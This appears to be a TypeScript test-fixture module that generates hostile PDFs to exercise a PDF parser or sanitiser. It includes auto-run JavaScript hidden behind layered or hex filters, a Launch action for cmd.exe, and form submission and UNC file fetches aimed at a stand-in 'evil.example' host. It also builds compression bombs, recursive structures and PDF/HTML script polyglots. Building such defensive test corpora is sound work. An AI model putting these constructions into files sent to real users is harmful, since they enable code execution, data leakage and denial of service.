import { deflateSync } from 'node:zlib'
import { compressionBomb } from './bomb.ts'
import { type HostileFile, hostileFile } from './hostile-file.ts'

interface Parts {
  catalog?: string
  page?: string
  pages?: string
  /** Further objects, each with its number. */
  objects?: (string | Buffer)[]
  trailer?: string
  end?: string
}

/** A PDF of one page by hand; readers find its objects without a table of where they are. */
export function pdfOf({ catalog = '', page = '', pages, objects = [], trailer = '', end = '%%EOF\n' }: Parts): Buffer {
  const tree = pages ?? '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n'
  return Buffer.concat(
    [
      '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n',
      `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`,
      tree,
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${page} >>\nendobj\n`,
      ...objects,
      `trailer\n<< /Root 1 0 R ${trailer} >>\nstartxref\n0\n${end}`,
    ].map((part) => (Buffer.isBuffer(part) ? part : Buffer.from(part, 'latin1'))),
  )
}

export function streamObject(number: number, entries: string, data: Buffer | string): Buffer {
  const bytes = Buffer.from(data)
  const head = `${number} 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream\nendobj\n')])
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = Buffer.from(`4 0 ${script}`)
const objectStream = (filter: string, data: Buffer): Buffer =>
  pdfOf({
    catalog: '/OpenAction 4 0 R',
    objects: [streamObject(9, `/Type /ObjStm /N 1 /First 4 ${filter}`, data)],
  })

const inCatalog: Record<string, string> = {
  'a script on opening': `/OpenAction ${script}`,
  'a script with a spelt out name': '/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>',
  'a script among names': `/Names << /JavaScript << /Names [(x) ${script}] >> >>`,
  'an action on closing': `/AA << /WC ${script} >>`,
  'a link on opening': '/OpenAction << /S /URI /URI (http://evil.example) >>',
  'another file on opening': '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>',
  'an embedded file on opening': '/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>',
  'a program on opening': '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>',
  'a form that sends itself': '/OpenAction << /S /SubmitForm /F (http://evil.example) >>',
  'data from elsewhere': '/OpenAction << /S /ImportData /F (x.fdf) >>',
  'a film': '/OpenAction << /S /Rendition /OP 0 >>',
  'a chain of actions': `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`,
  'an XFA form': '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
  'a calculating form': `/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /C ${script} >> >>] /CO [] >>`,
  'an attached file':
    '/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>] >> >>',
  'associated files': '/AF [<< /Type /Filespec /F (x) /EF << /F 5 0 R >> >>]',
  'a portfolio': '/Collection << /D (x) >>',
  'a base address': '/URI << /Base (http://evil.example) >>',
  metadata: '/Metadata 5 0 R',
  outlines: '/Outlines << /First << /Title (x) /A << /S /URI /URI (http://evil.example) >> >> >>',
  'legal attestations': '/Legal << /JavaScriptActions 1 >> /Perms << /UR3 5 0 R >>',
  'a requirement': '/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script (x) >> >>]',
}

const onPage: Record<string, string> = {
  'an action on showing': `/AA << /O ${script} >>`,
  'a link on showing': '/AA << /O << /S /URI /URI (http://evil.example) >> >>',
  'a link': '/Annots [<< /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (http://evil.example) >> >>]',
  'a script link': `/Annots [<< /Subtype /Link /Rect [0 0 300 200] /A ${script} >>]`,
  'a rich media': '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]',
  'a 3D model': '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >>]',
  'a screen': '/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition >> >>]',
  'an attachment': '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 5 0 R >> >> >>]',
  'a button with a script': `/Annots [<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /AA << /D ${script} >> >>]`,
  'a stamp that is its own look': '/Annots [<< /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 3 0 R >> >>]',
  'a drawing from another file': '/Resources << /XObject << /X 6 0 R >> >>',
  PostScript: '/Resources << /XObject << /X 7 0 R >> >>',
  'private data': '/PieceInfo << /Evil << /LastModified (x) /Private 5 0 R >> >>',
  'an endless sheet': '/MediaBox [0 0 99999999 99999999] /UserUnit 99999',
  'a sheet without size': '/MediaBox [0 0 0 0] /Rotate 45',
  'a thousand annotations in each other': `/Annots ${'['.repeat(1000)}${']'.repeat(1000)}`,
}

const others: HostileFile[] = [
  hostileFile('pdf: 4.6 MB of spelt out names', () => pdfOf({ catalog: `/X [${'/#41'.repeat(1_150_000)}]` })),
  hostileFile('pdf: 150,000 names', () =>
    pdfOf({ catalog: `/X << ${Array.from({ length: 150_000 }, (_, i) => `/N${i} ${i}`).join(' ')} >>` }),
  ),
  hostileFile('pdf: script packed once', () => objectStream('/Filter /FlateDecode', deflateSync(packed))),
  hostileFile('pdf: script packed twice', () =>
    objectStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(packed))),
  ),
  hostileFile('pdf: script behind an indirect filter', () =>
    pdfOf({
      catalog: '/OpenAction 4 0 R',
      objects: [
        streamObject(9, '/Type /ObjStm /N 1 /First 4 /Filter 8 0 R', deflateSync(packed)),
        '8 0 obj\n/FlateDecode\nendobj\n',
      ],
    }),
  ),
  hostileFile('pdf: script in hex', () =>
    objectStream('/Filter /ASCIIHexDecode', Buffer.from(`${packed.toString('hex')}>`)),
  ),
  hostileFile('pdf: script behind a crypt filter', () => objectStream('/Filter /Crypt', packed)),
  hostileFile('pdf: script in a later revision', () =>
    Buffer.concat([
      pdfOf({}),
      Buffer.from(
        `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
      ),
    ]),
  ),
  hostileFile('pdf: script in another catalogue', () =>
    pdfOf({ objects: [`9 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\n`] }),
  ),
  hostileFile('pdf: object stream bomb', () => objectStream('/Filter /FlateDecode', compressionBomb(1000))),
  hostileFile('pdf: bomb within a bomb', () =>
    objectStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(compressionBomb(1000))),
  ),
  hostileFile('pdf: object stream that promises a billion', () =>
    pdfOf({
      objects: [streamObject(9, '/Type /ObjStm /N 999999999 /First 4 /Filter /FlateDecode', deflateSync(packed))],
    }),
  ),
  hostileFile('pdf: object stream that extends itself', () =>
    pdfOf({ objects: [streamObject(9, '/Type /ObjStm /N 1 /First 4 /Extends 9 0 R', packed)] }),
  ),
  hostileFile('pdf: table of places that points at itself', () =>
    pdfOf({ trailer: '/Prev 0 /XRefStm 0', end: 'startxref\n9\n%%EOF\n' }),
  ),
  hostileFile('pdf: table of places with a billion rows', () =>
    pdfOf({
      objects: [streamObject(9, '/Type /XRef /W [9 9 9] /Index [0 999999999] /Size 999999999 /Root 1 0 R', '0')],
    }),
  ),
  hostileFile('pdf: pages in a circle', () =>
    pdfOf({ pages: '2 0 obj\n<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>\nendobj\n' }),
  ),
  hostileFile('pdf: one page a million times', () =>
    pdfOf({ pages: `2 0 obj\n<< /Type /Pages /Kids [${'3 0 R '.repeat(700_000)}] /Count 700000 >>\nendobj\n` }),
  ),
  hostileFile('pdf: a page tree that doubles forty times', () =>
    pdfOf({
      pages: `2 0 obj\n<< /Type /Pages /Kids [100 0 R] >>\nendobj\n${Array.from({ length: 40 }, (_, i) => `${100 + i} 0 obj\n<< /Type /Pages /Kids [${101 + i} 0 R ${101 + i} 0 R] >>\nendobj\n`).join('')}`,
    }),
  ),
  hostileFile('pdf: resources in a circle', () =>
    pdfOf({
      page: '/Resources 6 0 R',
      objects: [
        '6 0 obj\n<< /XObject << /X 7 0 R >> >>\nendobj\n',
        streamObject(7, '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 6 0 R', '/X Do'),
      ],
    }),
  ),
  hostileFile('pdf: a reference to itself', () =>
    pdfOf({ page: '/Contents 6 0 R', objects: ['6 0 obj\n6 0 R\nendobj\n'] }),
  ),
  hostileFile('pdf: a million brackets', () => pdfOf({ catalog: `/X ${'['.repeat(1_000_000)}` })),
  hostileFile('pdf: a million open dictionaries', () => pdfOf({ catalog: '<</A'.repeat(1_000_000) })),
  hostileFile('pdf: a text without an end', () => pdfOf({ catalog: `/X (${'('.repeat(2_000_000)}` })),
  hostileFile('pdf: a number of a million digits', () => pdfOf({ catalog: `/X ${'1'.repeat(1_000_000)} 0 R` })),
  hostileFile('pdf: 100,000 objects', () =>
    pdfOf({ objects: [Array.from({ length: 100_000 }, (_, i) => `${i + 10} 0 obj 1 endobj\n`).join('')] }),
  ),
  hostileFile('pdf: a stream of a length that is not its own', () =>
    pdfOf({ page: '/Contents 6 0 R', objects: ['6 0 obj\n<< /Length 999999999 >>\nstream\nq Q\nendstream\nendobj\n'] }),
  ),
  hostileFile('pdf: thousands of streams that do not end', () =>
    pdfOf({ objects: ['6 0 obj<</Length 1>>stream\n'.repeat(30_000)] }),
  ),
  hostileFile('pdf: a stream that lies in another file', () =>
    pdfOf({
      page: '/Contents 6 0 R',
      objects: [streamObject(6, '/F (\\\\\\\\evil.example\\\\x) /FFilter /FlateDecode', '')],
    }),
  ),
  hostileFile('pdf: a picture of a billion points', () =>
    pdfOf({
      page: '/Resources << /XObject << /X 6 0 R >> >> /Contents 7 0 R',
      objects: [
        streamObject(
          6,
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
          deflateSync(Buffer.alloc(1000)),
        ),
        streamObject(7, '', 'q 300 0 0 200 0 0 cm /X Do Q'),
      ],
    }),
  ),
  hostileFile('pdf: locked', () =>
    pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >>' }),
  ),
  hostileFile('pdf: no page', () => pdfOf({ pages: '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n' })),
  hostileFile('pdf: no catalogue', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\n%%EOF\n')),
  hostileFile('pdf: nothing but its ends', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  hostileFile('pdf: cut in half', () => pdfOf({}).subarray(0, 150)),
  hostileFile('pdf: a page of HTML behind it', () =>
    Buffer.concat([pdfOf({}), Buffer.from('<html><script>alert(1)</script></html>')]),
  ),
  hostileFile('pdf: a page of HTML before it', () =>
    Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdfOf({})]),
  ),
  hostileFile('pdf: a page of HTML inside it', () => pdfOf({ objects: ['<html><script>alert(1)</script></html>\n'] })),
  hostileFile('pdf: two million comments', () => pdfOf({ objects: ['%\n'.repeat(2_000_000)] })),
]

const common = [
  streamObject(5, '/Type /EmbeddedFileX', 'MZ'),
  streamObject(
    6,
    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\evil.example\\\\x) /Page 0 >>',
    '',
  ),
  streamObject(7, '/Type /XObject /Subtype /PS', '(x) run'),
]

export const hostilePdfs: HostileFile[] = [
  ...Object.entries(inCatalog).map(([name, catalog]) =>
    hostileFile(`pdf: ${name}`, () => pdfOf({ catalog, objects: common })),
  ),
  ...Object.entries(onPage).map(([name, page]) =>
    hostileFile(`pdf page: ${name}`, () => pdfOf({ page, objects: common })),
  ),
  ...others,
]
